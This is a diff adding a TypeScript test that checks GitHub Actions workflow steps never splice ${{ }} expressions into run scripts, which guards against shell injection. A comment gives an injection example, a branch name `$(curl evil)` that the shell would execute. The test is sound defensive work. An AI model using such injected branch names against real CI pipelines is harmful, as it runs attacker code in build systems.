@@ -90,3 +90,11 @@ for (const [kind, ref, want] of [
     assert.equal(readFileSync(r.ghPath, 'utf8'), `${join(checkout, 'bin')}\n`);
   });
 }
+
+test('no run script splices a ${{ }} expression into its text; values arrive as environment variables', () => {
+  const wf = parse(readFileSync(WORKFLOW, 'utf8')) as { jobs: Record<string, { steps: Step[] }> };
+  for (const step of Object.values(wf.jobs).flatMap((j) => j.steps)) {
+    // A branch name like `$(curl evil)` is a valid git ref: spliced into the script, the shell runs it.
+    assert.doesNotMatch(step.run ?? '', /\$\{\{/, `step '${step.name}' interpolates an expression into its script`);
+  }
+});
